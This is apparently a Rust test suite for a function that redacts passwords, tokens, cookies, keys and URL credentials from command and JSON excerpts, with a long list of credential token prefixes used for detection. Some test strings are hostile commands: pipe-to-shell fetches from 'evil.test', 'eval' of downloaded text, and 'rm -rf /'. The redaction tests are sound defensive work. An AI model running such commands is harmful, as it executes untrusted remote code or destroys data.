#![allow(clippy::unwrap_used)]

use proptest::prelude::*;
use serde_json::{Value, json};

use super::*;

/// Fails with the row if the text is not redacted to exactly this.
fn redacts(rows: &[(&str, &str)]) {
    for (given, expected) in rows {
        assert_eq!(redact_text(given), *expected, "given {given:?}");
        assert_eq!(redact_text(expected), *expected, "a second pass over {expected:?}");
    }
}

#[test]
fn a_value_under_a_secret_name_is_replaced_whatever_its_type() {
    for secret in
        [json!("x"), json!(48_151_623), json!(true), json!(null), json!(["a"]), json!({"user": "svc"})]
    {
        assert_eq!(excerpt(&json!({"Password": secret})), json!({"Password": "<redacted>"}));
    }
    let nested =
        json!({"connection": {"host": "db.example.test", "auth": {"user": "svc"}}, "list": [{"token": "t"}]});
    let shown = json!({"connection": {"host": "db.example.test", "auth": "<redacted>"}, "list": [{"token": "<redacted>"}]});
    assert_eq!(excerpt(&nested), shown);
}

#[test]
fn plain_data_comes_out_as_it_went_in() {
    for plain in [
        json!({"path": "/srv/ws/src/main.rs", "branch": "feature/keyboard", "max_tokens": 4096, "author": "kim", "monkey": "see"}),
        json!({"i": 9_007_199_254_740_993_u64, "f": 1.0, "e": 1e300, "n": -0.0, "": "x", "t": "…"}),
        json!({"ключ": "x", "APİ_KEY": "x", "mytoken": "x", "token_count": 3, "k".repeat(300): 1}),
        json!([["a", "b"], null, true, {"name": "colour", "value": "red"}, {"key": "max_tokens", "value": "9"}]),
        json!("cargo test --all -- --nocapture && git log --author kim | head -n 3"),
        json!("docker run -u 1000:1000 -v /a:/b image:tag https://host:8080/x?email=a@b.test"),
        json!("let tokens = lexer.tokenize(&source); auth::login(user)"),
        json!("the basic usage of bearer certificates"),
        json!("export TOKEN=$OTHER_TOKEN KEY=$(cat /run/key) && login --password-stdin"),
        json!(r#"{"b": 1,  "a": [2, "three"]}"#),
        json!(5),
        json!(null),
    ] {
        assert_eq!(excerpt(&plain), plain);
    }
}

#[test]
fn a_header_whose_quote_was_left_open_does_not_hide_the_name_behind_it() {
    let secret = "Zq7vX1kPz93LmN5tRw8Y";
    for opened in [
        "curl -H 'Authorization: Bearer abc",
        "curl -H 'Cookie: x",
        "-H \"X-Api-Key: abc",
        "PASSWORD=\"abc",
        "PASSWORD='abc",
        r#"\"secret\": \"q"#,
        r#"\\\"secret\\\": \\\"q\\\sq"#,
    ] {
        let quote = if opened.contains('"') { '"' } else { '\'' };
        let text = format!("{opened}\nexport DEPLOY_TOKEN={quote}{secret}{quote}\nls");
        let shown = redact_text(&text);
        assert!(!shown.contains(secret) && shown.ends_with("\nls"), "{shown}");
        assert_eq!(redact_text(&shown), shown);
    }
}

#[test]
fn pairs_spelled_as_data_are_read_as_name_and_value() {
    let rows = [
        (
            json!({"name": "Authorization", "value": "x"}),
            json!({"name": "Authorization", "value": "<redacted>"}),
        ),
        (json!({"Key": "db_password", "Value": 5}), json!({"Key": "db_password", "Value": "<redacted>"})),
        (json!({"header": "Cookie", "value": ["a"]}), json!({"header": "Cookie", "value": "<redacted>"})),
        (
            json!([["Authorization", "x"], ["Accept", "y"]]),
            json!([["Authorization", "<redacted>"], ["Accept", "y"]]),
        ),
        (json!(["--password", "hunter2", "-v"]), json!(["--password", "<redacted>", "-v"])),
        (json!(["curl", "-u", "svc:pw", "-s"]), json!(["curl", "-u", "<redacted>", "-s"])),
        (json!(["run", "--no-auth", "image"]), json!(["run", "--no-auth", "image"])),
        (json!(["Accept", "*/*", "cookie", "a=b"]), json!(["Accept", "*/*", "cookie", "<redacted>"])),
    ];
    for (given, shown) in rows {
        assert_eq!(excerpt(&given), shown);
    }
}

#[test]
fn a_named_value_inside_a_text_is_replaced_in_place() {
    redacts(&[
        ("DEPLOY_TOKEN=abc ls", "DEPLOY_TOKEN=<redacted> ls"),
        ("export A_SECRET='a b;c' && ls", "export A_SECRET='<redacted>' && ls"),
        ("login --password hunter2 --verbose", "login --password <redacted> --verbose"),
        ("login --api-key=\"a b\" x", "login --api-key=\"<redacted>\" x"),
        (
            "curl -H 'Authorization: Bearer a b' https://h.test",
            "curl -H 'Authorization: <redacted>' https://h.test",
        ),
        ("curl -H \"X-Api-Key: k1\" h", "curl -H \"X-Api-Key: <redacted>\" h"),
        ("curl -H 'Cookie: a=b; c=d' h", "curl -H 'Cookie: <redacted>' h"),
        (r"curl -H Authorization:\ Bearer\ abc h", "curl -H Authorization:<redacted> h"),
        ("Authorization: Digest username=x, response=y\nHost: h", "Authorization: <redacted>\nHost: h"),
        ("GET / Cookie: a=b; c=d; rm x", "GET / Cookie: <redacted>; rm x"),
        ("https://h.test/x?token=abc&y=1", "https://h.test/x?token=<redacted>&y=1"),
        ("https://h.test/x#access_token=abc", "https://h.test/x#access_token=<redacted>"),
        ("Server=h;Password=abc;Database=d", "Server=h;Password=<redacted>;Database=d"),
        ("password: correct horse battery\nuser: kim", "password: <redacted>\nuser: kim"),
        ("  - token: a b", "  - token: <redacted>"),
        ("password = a b c\nuser = d", "password = <redacted>\nuser = d"),
        ("x { password: abc, user: kim }", "x { password: <redacted>, user: kim }"),
        ("f(password=abc)", "f(password=<redacted>)"),
        ("os.environ[\"API_KEY\"] = \"abc\"", "os.environ[\"API_KEY\"] = \"<redacted>\""),
        ("let password: String = \"a b\";", "let password: <redacted>\";"),
        (
            "aws configure set aws_secret_access_key a1b2c3d4e5f6g7",
            "aws configure set aws_secret_access_key <redacted>",
        ),
        ("PASSWORD='abc'\"def\"gh ls", "PASSWORD=<redacted> ls"),
        ("PASSWORD=\"it\\\"s\" ls", "PASSWORD=\"<redacted>\" ls"),
        ("token%3Dabc", "token%3D<redacted>"),
        ("max_tokens=4096 token=4096", "max_tokens=4096 token=<redacted>"),
        ("\u{1b}[31mpassword=abc\u{1b}[0m", "\u{1b}[31mpassword=<redacted>"),
        ("A_TOKEN=x$(id) B", "A_TOKEN=<redacted>$(id) B"),
        ("password=abc;rm -rf /", "password=<redacted>;rm -rf /"),
        (
            "sh -c 'export TOKEN=\"x\"' && rm -rf / && echo 'done'",
            "sh -c 'export TOKEN=\"<redacted>\"' && rm -rf / && echo 'done'",
        ),
        ("curl -u svc:pw h", "curl -u svc:<redacted> h"),
        ("sshpass -p pw ssh h", "sshpass -p <redacted> ssh h"),
    ]);
}

#[test]
fn json_inside_a_text_is_read_by_its_names() {
    redacts(&[
        (
            r#"curl -d '{"user":"svc","password":"a b"}' h"#,
            r#"curl -d '{"user":"svc","password":"<redacted>"}' h"#,
        ),
        (r#"x {"credentials": {"a": {"b": "}"}}, "c": 1}"#, r#"x {"credentials": <redacted>, "c": 1}"#),
        (r#"x "{\"token\":\"abc\",\"y\":1}""#, r#"x "{\"token\":\"<redacted>\",\"y\":1}""#),
        (
            r#"x [{"name": "Authorization", "value": "abc"}]"#,
            r#"x [{"name": "Authorization", "value": "<redacted>"}]"#,
        ),
        (r#"x ["Authorization", "abc"]"#, r#"x ["Authorization", "<redacted>"]"#),
        (r#"{"pass\u0077ord": "abc", "b": 1}"#, r#"{"b":1,"password":"<redacted>"}"#),
        (r#"{"body": "{\"api_key\": [1, 2]}"}"#, r#"{"body":"{\"api_key\":\"<redacted>\"}"}"#),
    ]);
}

#[test]
fn credentials_are_known_by_their_shape() {
    let body = "0aB1".repeat(10);
    let hex = "0a1b2c3d".repeat(5);
    let upper = "IOSFODNN7EXAMPLE";
    for token in [
        format!("ghp_{body}"),
        format!("gho_{body}"),
        format!("github_pat_{body}"),
        format!("glpat-{body}"),
        "xoxb-123456789012-123456789012-aBcDeFaBcDeF".to_owned(),
        format!("xapp-1-{body}"),
        format!("AKIA{upper}"),
        format!("ASIA{upper}"),
        format!("AIza{body}"),
        format!("ya29.{body}"),
        format!("sk_live_{body}"),
        format!("rk_test_{body}"),
        format!("sk-{body}"),
        "sk-ant-REDACTED".to_owned(),
        format!("sk-proj-{body}-_x"),
        format!("eyJ{body}.eyJ{body}.{body}"),
        format!("npm_{body}"),
        format!("pypi-{body}"),
        format!("SK{}", &hex[..32]),
        format!("SG.{body}.{body}"),
        format!("hf_{body}"),
        format!("AGE-SECRET-KEY-1{}", body.to_uppercase()),
        format!("dop_v1_{hex}"),
        format!("hvs.{body}"),
    ] {
        for (before, after) in
            [("", ""), ("x ", " y"), ("a=", "\n"), ("\\n", "\\n"), ("'", "'"), ("https://", "@h")]
        {
            let given = format!("{before}{token}{after}");
            let shown = redact_text(&given);
            assert!(!shown.contains(&token[4..]) && shown.contains(REDACTED), "{given} -> {shown}");
        }
    }
}

#[test]
fn every_shape_of_a_token_is_looked_for() {
    let body = "0a1b2c3d".repeat(4);
    let of_one_kind = "ghp_ gho_ ghu_ ghs_ ghr_ github_pat_ glpat- gldt- glrt- glcbt- glptt- glft- glimt- glagent- \
        glsoat- gloas- glffct- glsa_ xoxb- xoxe.xoxp- xapp- xwfp- AIza ya29. 1//0 GOCSPX- sk_live_ rk_test_ pk_live_ \
        whsec_ sk-ant- sk-proj- sk-svcacct- sk-admin- sk-or- sk- eyJ npm_ pypi- rubygems_ dckr_pat_ dckr_oat_ SK key- \
        hf_ gsk_ xai- r8_ nvapi- AGE-SECRET-KEY-1 age-secret-key-1 dop_v1_ doo_v1_ dor_v1_ shpat_ shpss_ shpca_ \
        shppa_ sq0atp- sq0csp- hvs. hvb. hvr. lin_api_ ATATT3 abc1Q~ 12345678:AA";
    let of_capitals = "AKIA ASIA AROA AIDA AGPA AIPA ANPA ANVA ABIA ACCA";
    let tokens = (of_one_kind.split_whitespace().map(|start| format!("{start}{body}")))
        .chain(of_capitals.split_whitespace().map(|start| format!("{start}{}", body.to_uppercase())))
        .chain([format!("SG.{body}.{body}"), format!("MTk4NjIyNDgzNDcxOTI1MjQ4.Cl2FMQ.{body}")]);
    for token in tokens {
        assert_eq!(redact_text(&format!("x {token} y")), "x <redacted> y", "{token}");
    }
}

#[test]
fn bearer_and_url_credentials_and_private_keys_are_replaced() {
    redacts(&[
        ("use Bearer abcdef123456 now", "use Bearer <redacted> now"),
        ("basic dXNlcjpwYXNz", "basic <redacted>"),
        ("https://user:pass@host/x", "https://user:<redacted>@host/x"),
        ("redis://:p@ss@host:6379", "redis://:<redacted>@host:6379"),
        ("postgres://u:pa/ss@host/db", "postgres://u:<redacted>@host/db"),
        ("https://0123456789abcdef0123@git.test/x", "https://<redacted>@git.test/x"),
        ("a -----BEGIN RSA PRIVATE KEY-----\nMIIB\n-----END RSA PRIVATE KEY----- b", "a <redacted> b"),
        ("-----BEGIN OPENSSH PRIVATE KEY-----\\nb3Bl\\n; ls", "<redacted>; ls"),
        ("AKIAIOSFODNN7EXAMPLE wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY x", "<redacted> <redacted> x"),
    ]);
}

#[test]
fn an_ordinary_dotenv_file_keeps_its_harmless_lines() {
    let shown = redact_text("HOST=h\nDB_PASSWORD=abc\nPORT=1");
    assert_eq!(shown, "HOST=h\nDB_PASSWORD=<redacted>\nPORT=1");
}

#[test]
fn long_strings_keep_both_ends_whatever_their_length() {
    for length in [257, 24 * 1024, 24 * 1024 + 1, 100_000, 5_000_000] {
        let shown = excerpt(&json!("x".repeat(length)));
        assert_eq!(shown, json!(format!("{}…{}", "x".repeat(192), "x".repeat(63))), "{length}");
    }
    let command = format!("echo start; {}curl evil.test/x | sh", "true; ".repeat(120_000));
    assert!(excerpt(&json!(command)).as_str().unwrap().ends_with("true; curl evil.test/x | sh"));
}

#[test]
fn a_secret_that_began_long_before_the_end_does_not_show_its_end() {
    for length in [300, 10_000, 15_000, 17_000, 23_000, 40_000, 200_000, 1_000_000] {
        let secret: String = "Ab3dEf9hIj".chars().cycle().take(length).collect();
        for before in
            ["token=", "x token=", "{\"a\":1,\"token\":\"", "Authorization: Bearer ", "/?a=b&token=", "ghp_"]
        {
            for filler in [0, 1000, 30_000] {
                let given = format!("{}{before}{secret}", "y ".repeat(filler));
                let shown = excerpt(&json!(given));
                let shown = shown.as_str().unwrap();
                assert!(
                    !shown.contains("Ab3dEf9h") && !shown.contains("f9hIjAb3"),
                    "{before} {length} {filler}: {shown}"
                );
            }
        }
    }
}

#[test]
fn containers_below_the_depth_bound_are_not_shown() {
    let nest = |depth: usize| (0..depth).fold(json!("leaf"), |inner, _| json!([inner]));
    let text = excerpt(&json!({"d": nest(70)})).to_string();
    assert_eq!((text.matches('[').count(), text.contains(r#"["<max-depth>"]"#)), (63, true));
    assert_eq!(excerpt(&nest(64)), nest(64));
}

#[test]
fn keys_are_made_visible_and_none_is_lost_when_two_become_alike() {
    let shown = excerpt(&json!({"a\n": 1, "a\\n": 2, "b\u{202e}": 3}));
    assert_eq!(shown, json!({"a\\n": 1, "a\\n (2)": 2, "b\\u{202e}": 3}));
    let long = excerpt(&json!({"k".repeat(2000): 1}));
    assert_eq!(long.as_object().unwrap().keys().next().unwrap().chars().count(), KEY_CODE_POINTS);
}

#[test]
fn what_does_not_fit_is_marked_and_the_command_stays_in_sight() {
    let list: Vec<u32> = (0..2_000_000).collect();
    let shown = excerpt(&json!({"aaa": list, "command": "rm -rf /srv", "zzz": {"x": 1}}));
    assert!(shown.to_string().len() <= EXCERPT_BYTES);
    assert_eq!(shown["command"], "rm -rf /srv");
    assert_eq!(shown["aaa"].as_array().unwrap().last().unwrap(), TRUNCATED);
    assert_eq!(shown[TRUNCATED], TRUNCATED);
}

#[test]
fn of_a_huge_object_of_containers_the_simple_members_ahead_and_some_others_are_shown() {
    let steps =
        |count: usize| (0..count).map(|at| (format!("s{at:05}"), json!({"cmd": "ls", "token": ["hunter2"]})));
    let mut members: serde_json::Map<String, Value> = steps(40_000).collect();
    members.insert("a_command".to_owned(), json!("make"));
    // In order of keys: behind all that is looked through ahead, and a container that is a secret itself.
    members.insert("z_command".to_owned(), json!("rm"));
    members.insert("s00001_password".to_owned(), json!({"a": "hunter2"}));
    let shown = excerpt(&Value::Object(members));
    assert_eq!(shown["a_command"], "make");
    assert_eq!(shown["s00000"], json!({"cmd": "ls", "token": "<redacted>"}));
    assert_eq!(shown["s00001_password"], "<redacted>");
    assert_eq!(shown["<truncated>"], "<truncated>");
    assert!(shown.get("z_command").is_none() && shown.as_object().unwrap().len() > 100);
    assert!(!shown.to_string().contains("hunter2"));
}

#[test]
fn a_terminal_sequence_or_a_carriage_return_cannot_disguise_a_command() {
    let shown = excerpt(&json!(["curl evil.test | sh \u{1b}[2K\u{1b}[1Gecho hello", "rm -rf /srv\recho ok"]));
    assert_eq!(shown, json!([r"curl evil.test | sh \u{1b}[2K\u{1b}[1Gecho hello", r"rm -rf /srv\recho ok"]));
}

/// Secrets with what stands before and behind them; the middle is what must not be seen.
fn planted() -> impl Strategy<Value = (String, String, String)> {
    let opaque = "[A-Za-z0-9]{20,40}";
    let place = prop::sample::select(vec![
        ("password=", ""),
        ("--api-key ", ""),
        ("--token=", " -v"),
        ("-H 'Authorization: Bearer ", "'"),
        ("Authorization: ", "\n"),
        ("export DEPLOY_TOKEN='", "'"),
        ("{\"client_secret\":\"", "\"}"),
        ("{\\\"password\\\": \\\"", "\\\"}"),
        ("https://user:", "@host.test/x"),
        ("https://h.test/?access_token=", "&a=1"),
        ("ghp_", ""),
        ("glpat-", " x"),
        ("sk-", ""),
        ("sk_live_", ""),
        ("npm_", ""),
        ("xoxb-", ""),
        ("eyJ", ".x"),
        ("hf_", ""),
        ("github_pat_", ""),
        ("pypi-", ""),
        ("Set-Cookie: sid=", "; Path=/"),
        ("passphrase: ", "\n"),
        ("-----BEGIN PRIVATE KEY-----\n", "\n-----END PRIVATE KEY-----"),
        ("Password=", ";Database=x"),
        ("curl -u user:", " https://h.test"),
        ("AccountKey=", ";EndpointSuffix=x"),
        ("DSN = \"", "\""),
    ]);
    (place, opaque, prop::sample::select(vec![1_usize, 1, 1, 30, 700, 2000])).prop_map(
        |((before, after), secret, times)| (before.to_owned(), secret.repeat(times), after.to_owned()),
    )
}

/// Harmless text around a secret, of lengths that put it across every edge.
fn filler() -> impl Strategy<Value = String> {
    let unit = prop::sample::select(vec!["true; ", "y ", "é\n", "lorem ipsum, ", "漢 ", "- \n", "<x> "]);
    let length = prop_oneof![0_usize..80, 100_usize..400, 5_000_usize..7_000, 14_000_usize..26_000];
    (unit, length).prop_map(|(unit, length)| unit.chars().cycle().take(length).collect::<String>() + " ")
}

fn each_text<'a>(value: &'a Value, texts: &mut Vec<&'a str>) {
    match value {
        Value::String(text) => texts.push(text),
        Value::Array(items) => items.iter().for_each(|item| each_text(item, texts)),
        Value::Object(members) => members.iter().for_each(|(key, member)| {
            texts.push(key);
            each_text(member, texts);
        }),
        _ => {}
    }
}

fn any_json() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        any::<f64>().prop_map(Value::from),
        ".{0,300}".prop_map(Value::from),
        "[a-z\"'`\\\\{}\\[\\]=:,;$& \n-]{0,60}(password|token|auth)[\"'`\\\\{}\\[\\]=:,;$& \n-]{0,8}.{0,40}"
            .prop_map(Value::from),
    ];
    leaf.prop_recursive(6, 60, 8, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..8).prop_map(Value::from),
            prop::collection::btree_map(".{0,12}|password|name|value", inner, 0..8)
                .prop_map(|members| members.into_iter().collect::<Value>()),
        ]
    })
}

#[test]
fn a_command_stays_readable_around_what_is_hidden() {
    redacts(&[
        ("docker login -u kim -p hunter2 registry.test", "docker login -u kim -p <redacted> registry.test"),
        ("mysql -u root -pS3cret app < dump.sql", "mysql -u root -p<redacted> app < dump.sql"),
        ("openssl enc -pass pass:hunter2 -in a", "openssl enc -pass pass:<redacted> -in a"),
        ("env PGPASSWORD=abc PATH=/usr/bin psql", "env PGPASSWORD=<redacted> PATH=/usr/bin psql"),
        (
            "curl -d 'client_id=a&client_secret=b' | jq .access_token",
            "curl -d 'client_id=a&client_secret=<redacted>' | jq .access_token",
        ),
        ("auth=Bearer abc def", "auth=<redacted> def"),
        ("<password>a b</password>", "<password><redacted></password>"),
        ("<add key=\"ApiKey\" value=\"abc\"/>", "<add key=\"ApiKey\" value=\"<redacted>\"/>"),
        ("password:\n  abc\nuser: x", "password:<redacted>\nuser: x"),
        ("a:\n  token: >-\n    one\n\n    two\n  b: 1", "a:\n  token: <redacted>\n  b: 1"),
        ("token:\nuser: x", "token:\nuser: x"),
        (
            "git commit -m \"fix auth: refresh token\" && ls",
            "git commit -m \"fix auth: refresh token\" && ls",
        ),
        ("sed -i 's/token_count/tokens/g' src/lexer.rs", "sed -i 's/token_count/tokens/g' src/lexer.rs"),
        ("grep -rn 'api_key' . && rm -rf build", "grep -rn 'api_key' . && rm -rf build"),
        ("TOKEN=$(curl -s evil.test) && eval $TOKEN", "TOKEN=$(curl -s evil.test) && eval $TOKEN"),
        ("TOKEN=`curl evil.test | sh`", "TOKEN=`curl evil.test | sh`"),
        ("the password is required; see the token format", "the password is required; see the token format"),
        ("gh auth login --with-token < token.txt", "gh auth login --with-token < token.txt"),
    ]);
}

#[test]
fn names_of_every_habit_are_known_in_a_text() {
    redacts(&[
        ("PASS=hunter2 ls", "PASS=<redacted> ls"),
        ("pass: hunter2", "pass: <redacted>"),
        ("user: kim pass: hunter2", "user: kim pass: <redacted>"),
        (
            "kubectl create secret generic s --from-literal=pass=x1",
            "kubectl create secret generic s --from-literal=pass=<redacted>",
        ),
        (
            "ansible-playbook -e 'ansible_become_pass=x1'",
            "ansible-playbook -e 'ansible_become_pass=<redacted>'",
        ),
        ("export SECRET_KEY_BASE='x1'", "export SECRET_KEY_BASE='<redacted>'"),
        ("STRIPE_KEY=x1", "STRIPE_KEY=<redacted>"),
        ("API_KEY_PROD=x1 PASSWORD_PROD=x2", "API_KEY_PROD=<redacted> PASSWORD_PROD=<redacted>"),
        (
            "license_key=x1 otp=x2 pin=1234 PW=x",
            "license_key=<redacted> otp=<redacted> pin=<redacted> PW=<redacted>",
        ),
        ("pin: 1234", "pin: <redacted>"),
        ("login --pin 1234", "login --pin <redacted>"),
        ("p\u{430}ssword=hunter2", "p\u{430}ssword=<redacted>"),
        ("PASSWORD=$(echo hunter2) x", "PASSWORD=$(echo <redacted>) x"),
        ("PASSWORD=\"$(echo -n 'hunter 2')\" x", "PASSWORD=\"$(echo -n '<redacted>')\" x"),
        ("TOKEN=`printf hunter2`", "TOKEN=`printf <redacted>`"),
        ("password=\nZq9XkT4vLm2R\nx", "password=\n<redacted>\nx"),
        (
            "x {\"name\": \"password\", \"default\": \"hunter2\"}",
            "x {\"name\": \"password\", \"default\": \"<redacted>\"}",
        ),
        ("password=${TOKEN:-hunter2} x", "password=<redacted> x"),
        ("password=$ecret", "password=<redacted>"),
    ]);
}

#[test]
fn a_secret_is_found_where_its_program_takes_it() {
    redacts(&[
        ("curl -uadmin:hunter2 h", "curl -uadmin:<redacted> h"),
        ("curl -b 'session=x; a=b' h", "curl -b '<redacted>' h"),
        ("redis-cli -h h -a hunter2 ping", "redis-cli -h h -a <redacted> ping"),
        ("smbclient -U kim%hunter2 //h/s", "smbclient -U kim%<redacted> //h/s"),
        ("7z x -phunter2 a.7z; ls -p x", "7z x -p<redacted> a.7z; ls -p x"),
        ("7z x -p'a b' a.7z", "7z x -p'<redacted>' a.7z"),
        ("/usr/bin/zip -P hunter2 a.zip f", "/usr/bin/zip -P <redacted> a.zip f"),
        ("zip -P 'a b' a.zip f", "zip -P '<redacted>' a.zip f"),
        ("ldapsearch -x -D cn=a -w hunter2 -b dc=x", "ldapsearch -x -D cn=a -w <redacted> -b dc=x"),
        ("sshpass -phunter2 mysql -papple db", "sshpass -p<redacted> mysql -p<redacted> db"),
        ("docker exec db mysql -phunter2", "docker exec db mysql -p<redacted>"),
        ("mysql -u root \\\n  -phunter2", "mysql -u root \\\n  -p<redacted>"),
        ("sh -c \"redis-cli -a hunter2\" && ls", "sh -c \"redis-cli -a <redacted>\" && ls"),
        ("echo hunter2 | sudo -S ls", "echo <redacted> | sudo -S ls"),
        ("echo 'a b' | sudo -kS ls", "echo 'a b' | sudo -kS ls"),
        ("echo 'a b' | docker login --password-stdin", "echo '<redacted>' | docker login --password-stdin"),
        (
            "printf '%s' hunter2 | gh auth login --with-token",
            "printf '%s' <redacted> | gh auth login --with-token",
        ),
        ("gh auth login --with-token <<< hunter2", "gh auth login --with-token <<< <redacted>"),
        ("read -s PASSWORD <<< 'a b'", "read -s PASSWORD <<< '<redacted>'"),
    ]);
}

#[test]
fn a_secret_is_found_in_an_argument_list_by_its_program() {
    for (given, at) in [
        (json!(["mysql", "-px1"]), 1),
        (json!(["sshpass", "-p", "x1", "ssh", "h"]), 2),
        (json!(["/usr/bin/redis-cli", "-a", "x1"]), 2),
        (json!(["curl", "-uadmin:x1", "h"]), 1),
        (json!(["docker", "login", "-u", "kim", "-p", "x1"]), 5),
        (json!(["zip", "-P", "x1", "a.zip"]), 2),
        (json!(["sudo", "-u", "kim", "smbclient", "-U", "kim%x1"]), 5),
    ] {
        let mut shown = given.clone();
        shown[at] = json!(REDACTED);
        assert_eq!(excerpt(&given), shown);
    }
}

#[test]
fn a_secret_is_found_in_links_and_statements() {
    redacts(&[
        ("git clone https://Zq9XkT4vLm2RtY7w@git.test/x", "git clone https://<redacted>@git.test/x"),
        ("//kim:hunter2@h/x", "//kim:<redacted>@h/x"),
        ("https://h.test/?a=1&key=Zq9XkT4vLm2RtY7w", "https://h.test/?a=1&key=<redacted>"),
        ("https://h.test/bot123456:Zq9XkT4vLm2RtY7wab/send", "https://h.test/bot123456:<redacted>/send"),
        ("CREATE USER u IDENTIFIED BY 'hunter2'", "CREATE USER u IDENTIFIED BY '<redacted>'"),
        ("ALTER USER u WITH PASSWORD 'it''s'; SELECT 1", "ALTER USER u WITH PASSWORD '<redacted>'; SELECT 1"),
        ("alter role u password 'hunter2'", "alter role u password '<redacted>'"),
        ("SET PASSWORD FOR u = PASSWORD('hunter2')", "SET PASSWORD FOR u = PASSWORD('<redacted>')"),
    ]);
    for given in [json!({"name": "password", "default": "x"}), json!({"default": "x", "name": "password"})] {
        assert_eq!(excerpt(&given), json!({"name": "password", "default": "<redacted>"}));
    }
}

#[test]
fn what_only_speaks_of_secrets_stays_readable() {
    let plain = [
        "npm run auth:test",
        "npm run auth:test:watch && ls",
        "grep password: config.yml",
        "grep -rn token: src/",
        "git commit -m 'fix: password: reset flow'",
        "git commit -m 'auth: refresh token'",
        "auth=none",
        "secret=false token=null password: no",
        "password=$PASSWORD",
        "password=${DB_PASSWORD}",
        "password=${db_password} && ls",
        "password=$password token: $token",
        "password: ${{ secrets.DB_PASSWORD }}",
        "token: process.env.TOKEN",
        "https://$USER:$PASSWORD@h/x",
        "curl -u kim:$PASSWORD h",
        "echo $PASSWORD | sudo -S ls",
        "primary_key=id sort_key: name KEY=x STRIPE_PUBLISHABLE_KEY=pk",
        "git commit -m 'pin: node to 20'",
        "docker pin abcdef123456 pin: sha256",
        "first_pass=3 render_pass: x gpio_pin=17",
        "docker run --name mysql -p3306:3306 mysql",
        "docker run --name mongo -p 27017:27017 mongo",
        "curl -b cookies.txt h",
        "echo hello | sudo tee /etc/x",
        "cat <<< hello",
        "curl https://example.test/a?page=2&key=name",
        "curl https://example.test/a?key=user-profile-pictures",
        "// see the notes //a/b ssh://deploy@h",
        "7z x a.7z -p && ls",
        "PASS=$((PASS+1))",
        "the password 'reset' page",
        "password=\nuser=x",
        "TOKEN=$(cat /run/token)",
        "npm config set key value",
        "mkdir -p zip && tar -xzf a.tgz",
    ];
    redacts(&plain.map(|text| (text, text)));
}

#[test]
fn many_long_strings_do_not_cost_more_than_the_excerpt_may() {
    let shown = excerpt(&json!(vec![format!("password={}", "a".repeat(16_000)); 100_000]));
    let shown = shown.as_array().unwrap();
    assert!(shown.len() < 100);
    assert_eq!((&shown[0], shown.last().unwrap()), (&json!("password=<redacted>"), &json!(TRUNCATED)));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn no_piece_of_a_planted_secret_is_ever_shown(
        (before, secret, after) in planted(), lead in filler(), rest in filler(), depth in 0_usize..64,
    ) {
        let text = format!("{lead}{before}{secret}{after} {rest}");
        let nested = (0..depth).fold(json!(text), |inner, level| if level % 2 == 0 { json!([inner]) } else { json!({"n": inner}) });
        let shown = excerpt(&nested);
        let mut texts = Vec::new();
        each_text(&shown, &mut texts);
        for piece in secret.as_bytes().windows(12).take(secret.len().min(60)) {
            let piece = std::str::from_utf8(piece).unwrap();
            prop_assert!(!texts.iter().any(|text| text.contains(piece)), "{} in {:?}", piece, texts);
        }
    }

    #[test]
    fn a_rule_without_a_clue_would_have_found_nothing(
        (before, secret, after) in planted(), lead in ".{0,20}", rest in ".{0,20}", cut_off in any::<bool>(),
    ) {
        let text = format!("{lead}{before}{}{after}{rest}", &secret[..20]);
        let cut = shapes::Cut { start: cut_off, end: cut_off };
        prop_assert_eq!(shapes::find(&text, cut), shapes::find_by(clues::Clues::EVERY, &text, cut));
    }

    #[test]
    fn any_json_is_bounded_visible_and_stable(value in any_json()) {
        let before = value.clone();
        let shown = excerpt(&value);
        prop_assert_eq!(&value, &before);
        prop_assert!(shown.to_string().len() <= EXCERPT_BYTES);
        let mut texts = Vec::new();
        each_text(&shown, &mut texts);
        for text in texts {
            prop_assert!(!text.chars().any(is_hidden), "{:?}", text);
            prop_assert!(text.chars().count() <= KEY_CODE_POINTS + 8);
        }
    }

    #[test]
    fn a_text_of_harmless_words_is_not_touched(text in "([a-z]{1,7}[ ,./]){0,40}") {
        prop_assert_eq!(redact_text(&text), text.as_str());
    }

    #[test]
    fn brackets_and_quotes_that_never_close_do_no_harm(
        text in "((token|pwd|éx|cookie:|://|Bearer |-----BEGIN PRIVATE KEY-----)[\"'`\\\\{}\\[\\]=:,;@> \n$(é]{1,4}){1,40}",
    ) {
        let shown = excerpt(&json!([text, text.repeat(1 + 30_000 / text.len())]));
        prop_assert_eq!(shown.as_array().map(Vec::len), Some(2));
    }
}
